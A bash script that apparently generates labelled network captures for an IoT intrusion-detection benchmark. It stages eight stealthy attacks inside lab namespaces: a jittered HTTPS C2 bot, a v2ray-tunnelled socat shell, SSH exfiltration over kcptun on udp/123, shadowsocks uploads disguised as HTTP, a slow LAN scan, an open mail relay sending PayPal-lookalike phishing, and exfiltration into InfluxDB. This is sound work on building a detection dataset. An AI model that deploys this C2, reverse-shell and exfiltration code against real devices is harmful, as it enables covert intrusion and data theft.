#!/usr/bin/env bash
# A FOURTEENTH fresh attack set ("f14-*"): attacks that BLEND IN — ports and protocols IoT devices already use
# (tcp/443, tcp/80, udp/123), low rates, few long-lived connections, one internet address — and two of new families.
# Made with real tools between network namespaces (no helper program: every far end is a packaged server or tool).
#   f14-https-jitter-c2       a C2 polled over HTTPS (HTTP/2, nginx) with jittered sleeps of 20-60 s, a fresh TLS
#                             connection per poll; tasks run and their output PUT back on another fresh connection
#   f14-v2ray-wss-reverse     a v2ray reverse-proxy "bridge" on the device: VMess over WebSocket over TLS to an
#                             internet "portal" on 443; the operator reaches a shell on the device's loopback through it
#   f14-kcptun-udp123-ssh     kcptun (KCP, an ARQ protocol over UDP) to an internet host's udp/123 with a small MTU,
#                             carrying an SSH session: commands, then a file pushed out
#   f14-ss-obfs-http80-exfil  shadowsocks (AEAD) behind simple-obfs's HTTP disguise on tcp/80: through it the bot polls
#                             a task file and uploads 3 files to a drop on the far end's loopback
#   f14-https-slow-put        ONE HTTPS PUT (curl --limit-rate 1500) of 270 kB held open for ~3 minutes (nginx DAV)
#   f14-slow-lan-sweep-80     a slow sweep of the LAN's tcp/80, one host every 3 s (nmap --scan-delay), then one GET /
#                             of each web server found
#   f14-smtp-open-relay       the device abused as an open mail relay: 3 internet hosts submit 30 mails to its tcp/25
#                             (OpenSMTPD on the device, "match from any for any"), each relayed to an internet MTA on
#                             tcp/25
#   f14-influxdb-exfil-wan    exfiltration into an internet InfluxDB (HTTP API, tcp/8086): ping, login, CREATE DATABASE,
#                             then a file in 40 line-protocol writes of ~20 kB base64, one connection each
# The lab is fresh-lab.sh's (device 10.66.0.10, victim 10.66.0.20, dummies .31-.34, a routed "internet" 10.128.0.0/9
# behind the victim), namespaces f14-*, veths f14p-*. Internet hosts are /32 addresses on the victim's lo
# (10.128.104.x and the relay's 3 spam sources); every other 10.128/9 address is on no host. Each id's servers are
# started before its capture and stopped after. Every tool runs under `timeout`, every loop is bounded; namespaces are
# removed on exit. The device is always the lab's attacker namespace (role attacker).
#
# Tools (Debian): nginx curl v2ray kcptun openssh-server openssh-client shadowsocks-libev simple-obfs nmap busybox
#   opensmtpd python3-aiosmtpd swaks influxdb socat iproute2 tcpdump wireshark-common bc openssl
#
# Usage: bash bench/behavior/fresh14/gen-fresh14.sh [--out DIR (default /work/behavior-bench-fresh14)] [--ids id1,id2]
set -euo pipefail

OUT=/work/behavior-bench-fresh14
HERE="$(cd "$(dirname "$0")" && pwd)"
LAB=f14 GEN=gen-fresh14
# shellcheck source=../fresh-lab.sh
. "$HERE/../fresh-lab.sh" "$@"

lab_network
sleep 1

# ---------- "internet" hosts ----------
# .104.2 the HTTPS C2, .104.3 the v2ray portal, .104.4 the kcptun server, .104.5 the shadowsocks server, .104.6 the
# slow PUT's drop, .104.8 the MTA the relay forwards to, .104.9 the InfluxDB; 10.128.61.7, 10.128.150.33 and
# 10.128.201.77 the relay's spammers.
internet_hosts 10.128.104.2 10.128.104.3 10.128.104.4 10.128.104.5 10.128.104.6 10.128.104.8 10.128.104.9
lab_tls_cert "cdn-update.example"
export NET VIC_IP ATT_IP W PY HERE LAB

mkdir -p "$W/loot"
head -c 270000 /dev/urandom > "$W/loot/fw-dump.bin"
head -c 160000 /dev/urandom > "$W/loot/wifi-creds.tar"
head -c 300000 /dev/urandom > "$W/loot/snap1.jpg"
head -c 120000 /dev/urandom > "$W/loot/config.tar"
head -c 60000 /dev/urandom > "$W/loot/contacts.db"
head -c 600000 /dev/urandom | base64 -w0 > "$W/loot/rec.b64"

# An nginx for one id: NAME, listen address:port, "ssl" or ""; its server block's extra lines on stdin. Files in
# $W/nginx-NAME (www/ the document root, dav/ the PUT drop); started with srv as the id needs.
nginx_conf() { # NAME ADDRESS:PORT SSL
  local d="$W/nginx-$1"
  rm -rf "$d"; mkdir -p "$d/tmp" "$d/www" "$d/dav"
  {
    cat <<EOF
user root;
worker_processes 1;
pid $d/nginx.pid;
error_log $d/error.log warn;
events { worker_connections 64; }
http {
  access_log $d/access.log;
  client_body_temp_path $d/tmp/body; proxy_temp_path $d/tmp/proxy; fastcgi_temp_path $d/tmp/fcgi;
  uwsgi_temp_path $d/tmp/uwsgi; scgi_temp_path $d/tmp/scgi;
  client_max_body_size 50m;
  client_body_timeout 300s;
  default_type application/octet-stream;
  server {
    listen $2 $3;
    server_name cdn-update.example;
    root $d/www;
EOF
    [ -z "$3" ] || printf '    ssl_certificate %s;\n    ssl_certificate_key %s;\n' "$W/tls.crt" "$W/tls.key"
    cat
    printf '  }\n}\n'
  } > "$d/nginx.conf"
}

# ---------- 1. a C2 polled over HTTPS with jittered 20-60 s sleeps, a fresh TLS connection per poll ----------
if want f14-https-jitter-c2; then
  nginx_conf c2 "10.128.104.2:443" "ssl http2" <<EOF
    location /api/v2/sync/ { default_type application/json; try_files \$uri /api/v2/sync/idle.json; }
    location /api/v2/report/ { root $W/nginx-c2/dav; dav_methods PUT; create_full_put_path on; }
EOF
  S="$W/nginx-c2/www/api/v2/sync"; mkdir -p "$S"
  echo '{"status":"ok","next":"poll"}' > "$S/idle.json"
  echo '{"status":"ok","cmd":"id; uname -a"}' > "$S/2.json"
  echo '{"status":"ok","cmd":"cat /proc/cpuinfo | head -8; ip -4 addr"}' > "$S/3.json"
  echo '{"status":"ok","cmd":"cat /etc/passwd; ls -la /etc"}' > "$S/5.json"
  srv vic 280 nginx -e "$W/nginx-c2/error.log" -c "$W/nginx-c2/nginx.conf" -g 'daemon off;'
  C2_PID=$BG
  wait_tcp vic 10.128.104.2 443
  cat > "$W/jitter-c2.sh" <<'EOS'
# the bot: a poll with a fresh TLS connection (HTTP/2), a task's output PUT back on another, then a 20-60 s sleep;
# at most 9 polls and 230 s
C=https://10.128.104.2
UA="okhttp/4.9.3"
t0=$SECONDS
for n in $(seq 1 9); do
  t=$(timeout 15 curl -sk --http2 -m 10 -A "$UA" -H "X-Device-Id: 7f3a19c2" "$C/api/v2/sync/$n.json" || true)
  cmd=$(printf '%s' "$t" | sed -n 's/.*"cmd":"\([^"]*\)".*/\1/p')
  if [ -n "$cmd" ]; then
    sleep $((2 + RANDOM % 4))
    timeout 5 sh -c "$cmd" 2>&1 | head -c 6000 | gzip | base64 -w0 > "$W/jitter-out"
    timeout 15 curl -sk --http2 -m 10 -A "$UA" -H "X-Device-Id: 7f3a19c2" -X PUT --data-binary "@$W/jitter-out" \
      "$C/api/v2/report/$n.bin" -o /dev/null || true
  fi
  s=$((20 + RANDOM % 41))
  [ $((SECONDS - t0 + s)) -lt 230 ] || break
  sleep "$s"
done
EOS
  CAP_VIC_IP=10.128.104.2 cap f14-https-jitter-c2 c2 curl-https-h2-jittered-poll+nginx attacker public false 250 \
    bash "$W/jitter-c2.sh"
  stopbg "$C2_PID"
  echo "jitter C2: $(grep -c . "$W/nginx-c2/access.log") requests; reports: $(ls "$W/nginx-c2/dav/api/v2/report" 2>/dev/null | tr '\n' ' ')" >&2
fi

# ---------- 2. v2ray reverse proxy: VMess over WebSocket over TLS on 443; a shell on the device's loopback ----------
if want f14-v2ray-wss-reverse; then
  V="$W/v2ray"; rm -rf "$V"; mkdir -p "$V"
  UUID=6f1c2a9e-4b7d-4e21-9c3a-7f3a19c2d5e8
  cat > "$V/portal.json" <<EOF
{
  "log": {"loglevel": "warning"},
  "reverse": {"portals": [{"tag": "portal", "domain": "r.cdn-update.example"}]},
  "inbounds": [
    {"tag": "op", "listen": "127.0.0.1", "port": 7001, "protocol": "dokodemo-door",
     "settings": {"address": "127.0.0.1", "port": 5555, "network": "tcp"}},
    {"tag": "tunnel", "listen": "10.128.104.3", "port": 443, "protocol": "vmess",
     "settings": {"clients": [{"id": "$UUID", "alterId": 0}]},
     "streamSettings": {"network": "ws", "security": "tls",
       "tlsSettings": {"certificates": [{"certificateFile": "$W/tls.crt", "keyFile": "$W/tls.key"}]},
       "wsSettings": {"path": "/cdn/ws"}}}
  ],
  "outbounds": [{"tag": "direct", "protocol": "freedom"}],
  "routing": {"rules": [
    {"type": "field", "inboundTag": ["op"], "outboundTag": "portal"},
    {"type": "field", "inboundTag": ["tunnel"], "domain": ["full:r.cdn-update.example"], "outboundTag": "portal"}
  ]}
}
EOF
  cat > "$V/bridge.json" <<EOF
{
  "log": {"loglevel": "warning"},
  "reverse": {"bridges": [{"tag": "bridge", "domain": "r.cdn-update.example"}]},
  "outbounds": [
    {"tag": "tunnel", "protocol": "vmess",
     "settings": {"vnext": [{"address": "10.128.104.3", "port": 443, "users": [{"id": "$UUID", "alterId": 0}]}]},
     "streamSettings": {"network": "ws", "security": "tls",
       "tlsSettings": {"serverName": "cdn-update.example", "allowInsecure": true},
       "wsSettings": {"path": "/cdn/ws"}}},
    {"tag": "local", "protocol": "freedom"}
  ],
  "routing": {"rules": [
    {"type": "field", "inboundTag": ["bridge"], "domain": ["full:r.cdn-update.example"], "outboundTag": "tunnel"},
    {"type": "field", "inboundTag": ["bridge"], "outboundTag": "local"}
  ]}
}
EOF
  srv vic 200 v2ray -config "$V/portal.json"
  PORTAL_PID=$BG
  wait_tcp vic 10.128.104.3 443
  # the operator, on the portal's host (its loopback is not captured): after the bridge is up, 8 commands typed 6-14
  # s apart into the device's shell, then a 270 kB file read out
  cat > "$W/v2ray-op.sh" <<'EOS'
sleep 20
{
  for c in "id" "uname -a" "cat /proc/net/arp" "ip -4 route" "ls -la /etc" "cat /etc/passwd" "ps aux | head -20" \
    "netstat -tn 2>/dev/null | head; ss -tn | head"; do
    sleep $((6 + RANDOM % 9)); echo "$c"
  done
  sleep 5; echo "base64 -w0 $W/loot/fw-dump.bin"; sleep 10; echo exit
} | timeout 150 socat - TCP:127.0.0.1:7001 > "$W/v2ray-op.out" 2>&1 || true
EOS
  ip netns exec "$LAB-vic" timeout 190 bash "$W/v2ray-op.sh" >>"$W/bg-v2ray-op.log" 2>&1 &
  OP_PID=$!; PIDS+=("$OP_PID")
  cat > "$W/v2ray-bridge.sh" <<'EOS'
# the device's implant: a shell on its loopback, and the v2ray bridge that dials the portal
timeout 165 socat TCP-LISTEN:5555,bind=127.0.0.1,reuseaddr EXEC:/bin/sh,stderr &
S=$!
timeout 170 v2ray -config "$W/v2ray/bridge.json" &
B=$!
wait $S 2>/dev/null || true
sleep 8
kill $B 2>/dev/null; wait $B 2>/dev/null || true
EOS
  CAP_VIC_IP=10.128.104.3 cap f14-v2ray-wss-reverse c2 v2ray-vmess-ws-tls-reverse-bridge+socat-shell attacker public \
    false 190 bash "$W/v2ray-bridge.sh"
  stopbg "$OP_PID"; stopbg "$PORTAL_PID"
  echo "v2ray operator got $(wc -c < "$W/v2ray-op.out") bytes" >&2
fi

# ---------- 3. kcptun on udp/123 carrying an SSH session: commands, then a file pushed out ----------
if want f14-kcptun-udp123-ssh; then
  K="$W/kcp"; rm -rf "$K"; mkdir -p "$K/drop" /run/sshd
  ssh-keygen -q -t ed25519 -N '' -f "$K/host"
  ssh-keygen -q -t ed25519 -N '' -f "$K/bot"
  cp "$K/bot.pub" "$K/authorized_keys"; chmod 600 "$K/authorized_keys"
  cat > "$K/sshd_config" <<EOF
ListenAddress 127.0.0.1:2222
HostKey $K/host
AuthorizedKeysFile $K/authorized_keys
PasswordAuthentication no
KbdInteractiveAuthentication no
UsePAM no
PermitRootLogin prohibit-password
StrictModes no
PidFile $K/sshd.pid
EOF
  srv vic 170 /usr/sbin/sshd -D -e -f "$K/sshd_config"
  SSHD_PID=$BG
  KCP_OPTS=(--key 'n7p-Kcp-19' --crypt aes-128 --mode fast2 --mtu 120 --nocomp --datashard 0 --parityshard 0 --quiet)
  srv vic 170 kcptun-server -l 10.128.104.4:123 -t 127.0.0.1:2222 "${KCP_OPTS[@]}"
  KS_PID=$BG
  wait_tcp vic 127.0.0.1 2222
  sleep 1
  printf '%s\n' "${KCP_OPTS[@]}" > "$K/opts"
  cat > "$W/kcp.sh" <<'EOS'
# the device: kcptun's client on its loopback, SSH through it (keepalives every 15 s): 5 commands 4-10 s apart,
# then a 160 kB archive pushed to the far end, then 20 s idle
mapfile -t O < "$W/kcp/opts"
timeout 140 kcptun-client -r 10.128.104.4:123 -l 127.0.0.1:2022 "${O[@]}" &
KC=$!
sleep 2
SSH=(ssh -p 2022 -i "$W/kcp/bot" -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes
  -o ServerAliveInterval=15 -o ConnectTimeout=10 root@127.0.0.1)
{
  for c in "hostname" "id" "uptime" "ls $W/kcp/drop" "df -h /"; do sleep $((4 + RANDOM % 7)); echo "$c"; done
  sleep 3
  echo "base64 -d > $W/kcp/drop/wifi-creds.tar <<'B64'"
  base64 "$W/loot/wifi-creds.tar"
  echo "B64"
  sleep 20
  echo "ls -la $W/kcp/drop; exit"
} | timeout 120 "${SSH[@]}" 'sh -s' > "$W/kcp-ssh.out" 2>&1 || true
sleep 2
kill $KC 2>/dev/null; wait $KC 2>/dev/null || true
EOS
  CAP_VIC_IP=10.128.104.4 cap f14-kcptun-udp123-ssh exfil kcptun-udp123-mtu120+openssh attacker public false 150 \
    bash "$W/kcp.sh"
  stopbg "$KS_PID"; stopbg "$SSHD_PID"
  ls -la "$K/drop" >&2 || true
fi

# ---------- 4. shadowsocks behind simple-obfs's HTTP disguise on tcp/80: a task poll and 3 uploads ----------
if want f14-ss-obfs-http80-exfil; then
  # the drop: an nginx DAV on the shadowsocks server's own loopback (not on the device's link)
  nginx_conf ssdrop "127.0.0.1:8088" "" <<EOF
    location /t/ { try_files \$uri =404; }
    location /u/ { root $W/nginx-ssdrop/dav; dav_methods PUT; create_full_put_path on; }
EOF
  mkdir -p "$W/nginx-ssdrop/www/t"; echo "sleep 600; upload snap1.jpg config.tar contacts.db" > "$W/nginx-ssdrop/www/t/7f3a"
  srv vic 150 nginx -e "$W/nginx-ssdrop/error.log" -c "$W/nginx-ssdrop/nginx.conf" -g 'daemon off;'
  DROP_PID=$BG
  SS_OPTS=(-m chacha20-ietf-poly1305 -k 'Ss-7f3a-obfs-22' --plugin obfs-server --plugin-opts 'obfs=http')
  srv vic 150 ss-server -s 10.128.104.5 -p 80 "${SS_OPTS[@]}"
  SS_PID=$BG
  wait_tcp vic 127.0.0.1 8088
  wait_tcp vic 10.128.104.5 80
  cat > "$W/ss.sh" <<'EOS'
# the device: ss-local (SOCKS5 on its loopback) with obfs-local's HTTP disguise (Host www.msftconnecttest.com);
# through it: 4 task polls and 3 uploads (300, 120, 60 kB), each its own tunnelled connection, 5-12 s apart
timeout 110 ss-local -s 10.128.104.5 -p 80 -l 1080 -b 127.0.0.1 -m chacha20-ietf-poly1305 -k 'Ss-7f3a-obfs-22' \
  --plugin obfs-local --plugin-opts 'obfs=http;obfs-host=www.msftconnecttest.com' &
L=$!
sleep 2
X=(curl -s -m 30 --socks5-hostname 127.0.0.1:1080 -A 'Microsoft NCSI')
timeout 35 "${X[@]}" -o /dev/null http://127.0.0.1:8088/t/7f3a || true
for f in snap1.jpg config.tar contacts.db; do
  sleep $((5 + RANDOM % 8))
  timeout 35 "${X[@]}" -o /dev/null http://127.0.0.1:8088/t/7f3a || true
  sleep $((5 + RANDOM % 8))
  timeout 35 "${X[@]}" -o /dev/null -T "$W/loot/$f" "http://127.0.0.1:8088/u/7f3a/$f" || true
done
sleep 2
kill $L 2>/dev/null; wait $L 2>/dev/null || true
EOS
  CAP_VIC_IP=10.128.104.5 cap f14-ss-obfs-http80-exfil exfil shadowsocks-libev+simple-obfs-http-80 attacker public false \
    120 bash "$W/ss.sh"
  stopbg "$SS_PID"; stopbg "$DROP_PID"
  ls -la "$W/nginx-ssdrop/dav/u/7f3a" >&2 || true
fi

# ---------- 5. ONE HTTPS PUT held open for ~3 minutes at 1.5 kB/s (curl --limit-rate; nginx DAV) ----------
if want f14-https-slow-put; then
  nginx_conf slow "10.128.104.6:443" "ssl" <<EOF
    location /upload/ { root $W/nginx-slow/dav; dav_methods PUT; create_full_put_path on; }
EOF
  srv vic 260 nginx -e "$W/nginx-slow/error.log" -c "$W/nginx-slow/nginx.conf" -g 'daemon off;'
  SLOW_PID=$BG
  wait_tcp vic 10.128.104.6 443
  CAP_VIC_IP=10.128.104.6 cap f14-https-slow-put exfil curl-https-put-limit-rate-1500+nginx-dav attacker public false 230 \
    curl -sk -m 220 --limit-rate 1500 -A 'Dalvik/2.1.0 (Linux; U; Android 9)' -H 'Content-Type: application/octet-stream' \
      -T "$W/loot/fw-dump.bin" https://10.128.104.6/upload/7f3a/fw-dump.bin -o /dev/null
  stopbg "$SLOW_PID"
  ls -la "$W/nginx-slow/dav/upload/7f3a" >&2 || true
fi

# ---------- 6. a slow sweep of the LAN's tcp/80, one host every 3 s, then one GET / of each web server ----------
if want f14-slow-lan-sweep-80; then
  mkdir -p "$W/www80"; printf '<html><head><title>IP Camera</title></head><body>login</body></html>\n' > "$W/www80/index.html"
  srv d31 260 busybox httpd -f -p "$NET.31:80" -h "$W/www80"
  H1=$BG
  srv d33 260 busybox httpd -f -p "$NET.33:80" -h "$W/www80"
  H2=$BG
  srv vic 260 busybox httpd -f -p "$VIC_IP:80" -h "$W/www80"
  H3=$BG
  sleep 1
  cat > "$W/sweep80.sh" <<'EOS'
timeout 215 nmap -n -Pn -sT -p 80 --scan-delay 3s --max-parallelism 1 --max-retries 0 --max-rtt-timeout 1s \
  --randomize-hosts -oG "$W/sweep80.gnmap" --exclude "$NET.10" "$NET.1-62" >/dev/null 2>&1 || true
for h in $(grep -o -E 'Host: [0-9.]+ .*80/open' "$W/sweep80.gnmap" | awk '{print $2}'); do
  sleep 3
  timeout 8 curl -s -m 5 -o /dev/null -A 'Mozilla/5.0' "http://$h/" || true
done
EOS
  CAP_VIC_IP=$NET.31 CAP_VIC_MAC=02:66:00:00:00:31 cap f14-slow-lan-sweep-80 scan nmap-sT-p80-scan-delay-3s+curl \
    attacker lan false 240 bash "$W/sweep80.sh"
  stopbg "$H1"; stopbg "$H2"; stopbg "$H3"
  grep -o -E 'Host: [0-9.]+ .*80/open' "$W/sweep80.gnmap" >&2 || true
fi

# ---------- 7. the device as an open mail relay: 3 internet spammers, 30 mails relayed to an internet MTA ----------
if want f14-smtp-open-relay; then
  SPAM="10.128.61.7 10.128.150.33 10.128.201.77"
  internet_hosts $SPAM
  rm -rf "$W/relay-mail"; mkdir -p "$W/relay-mail"
  srv vic 150 /usr/bin/python3 -m aiosmtpd -n -l 10.128.104.8:25 -c aiosmtpd.handlers.Mailbox "$W/relay-mail/box"
  MTA_PID=$BG
  # the relay: OpenSMTPD on the device's tcp/25, "match from any for any" (an open relay) to the MTA; in a private
  # mount namespace with its own queue (/var/spool on a tmpfs) and a resolv.conf naming its own loopback, so its
  # reverse lookups of the senders stay off the device's link
  cat > "$W/smtpd.conf" <<EOF
listen on $ATT_IP port 25 hostname gw-7f3a.lab.invalid
action "out" relay host smtp://10.128.104.8:25
match from any for any action "out"
EOF
  echo "nameserver 127.0.0.1" > "$W/resolv-lo.conf"
  ip netns exec "$LAB-att" timeout 150 unshare -m sh -c "mount -t tmpfs f14spool /var/spool &&
    mount --bind '$W/resolv-lo.conf' /etc/resolv.conf && exec smtpd -d -f '$W/smtpd.conf'" >>"$W/bg-smtpd.log" 2>&1 &
  RELAY_PID=$!; PIDS+=("$RELAY_PID")
  wait_tcp vic 10.128.104.8 25
  wait_tcp att "$ATT_IP" 25
  cat > "$W/relay.sh" <<'EOS'
# the spammers (in the victim's namespace, each from its own address): 30 mails through the device, ~2 s apart
S=(10.128.61.7 10.128.150.33 10.128.201.77)
D=(gmail.com yahoo.com outlook.com gmx.de web.de mail.ru)
for i in $(seq 1 30); do
  src=${S[$((i % 3))]}
  timeout 15 swaks --server 10.66.0.10 --port 25 --local-interface "$src" --helo "mx$i.bulk-mailer.example" \
    --from "billing@paypa1-secure.example" --to "user$((RANDOM % 9000 + 1000))@${D[$((RANDOM % 6))]}" \
    --header "Subject: Your account is on hold ($i)" --body "Verify your account: http://paypa1-secure.example/v?id=$i" \
    --suppress-data >/dev/null 2>&1 || true
  sleep 1.$((RANDOM % 10))
done
EOS
  CAP_WAN=$WAN CAP_VIC_IP=10.128.104.8 cap f14-smtp-open-relay proxy opensmtpd-open-relay+swaks attacker wan false \
    110 ip netns exec "$LAB-vic" bash "$W/relay.sh"
  stopbg "$RELAY_PID"; stopbg "$MTA_PID"
  echo "relayed: $(ls "$W/relay-mail/box/new" 2>/dev/null | wc -l) mails at the MTA" >&2
fi

# ---------- 8. exfiltration into an internet InfluxDB: line-protocol writes over its HTTP API (tcp/8086) ----------
if want f14-influxdb-exfil-wan; then
  I="$W/influx"; rm -rf "$I"; mkdir -p "$I/meta" "$I/data" "$I/wal"
  cat > "$I/influxdb.conf" <<EOF
reporting-disabled = true
bind-address = "127.0.0.1:8088"
[meta]
  dir = "$I/meta"
[data]
  dir = "$I/data"
  wal-dir = "$I/wal"
[http]
  enabled = true
  bind-address = "10.128.104.9:8086"
  auth-enabled = true
  log-enabled = false
  max-body-size = 25000000
[logging]
  level = "warn"
EOF
  srv vic 130 influxd -config "$I/influxdb.conf"
  INF_PID=$BG
  wait_tcp vic 10.128.104.9 8086
  # the drop's owner makes its admin account (before the capture)
  ns vic timeout 10 curl -s -XPOST 'http://10.128.104.9:8086/query' \
    --data-urlencode "q=CREATE USER drop7 WITH PASSWORD 'Infl-7f3a-88' WITH ALL PRIVILEGES" >&2 || true
  fold -w 20000 "$W/loot/rec.b64" | head -40 > "$I/chunks"
  cat > "$W/influx.sh" <<'EOS'
U=(-u 'drop7:Infl-7f3a-88')
B=http://10.128.104.9:8086
timeout 10 curl -s -m 8 -o /dev/null "$B/ping" || true
sleep 1
timeout 10 curl -s -m 8 "${U[@]}" -o /dev/null "$B/query" --data-urlencode 'q=SHOW DATABASES' || true
timeout 10 curl -s -m 8 "${U[@]}" -o /dev/null -XPOST "$B/query" --data-urlencode 'q=CREATE DATABASE telemetry' || true
sleep 2
i=0
while { read -r c || [ -n "$c" ]; } && [ $i -lt 40 ]; do
  i=$((i + 1))
  printf 'rec,host=cam7f3a,part=%d blob="%s",n=%di %d\n' "$i" "$c" "$i" "$(( $(date +%s) ))" > "$W/influx-line"
  timeout 10 curl -s -m 8 "${U[@]}" -o /dev/null -XPOST "$B/write?db=telemetry&precision=s" --data-binary "@$W/influx-line" || true
  sleep 0.$((8 + RANDOM % 2))$((RANDOM % 10))
done < "$W/influx/chunks"
timeout 10 curl -s -m 8 "${U[@]}" -o /dev/null "$B/query?db=telemetry" --data-urlencode 'q=SELECT count(blob) FROM rec' || true
EOS
  CAP_VIC_IP=10.128.104.9 cap f14-influxdb-exfil-wan exfil curl-influxdb-line-protocol-8086 attacker public false 80 \
    bash "$W/influx.sh"
  echo "influx rows: $(ns vic timeout 10 curl -s -u 'drop7:Infl-7f3a-88' 'http://10.128.104.9:8086/query?db=telemetry' \
    --data-urlencode 'q=SELECT count(blob) FROM rec')" >&2 || true
  stopbg "$INF_PID"
fi

lab_index
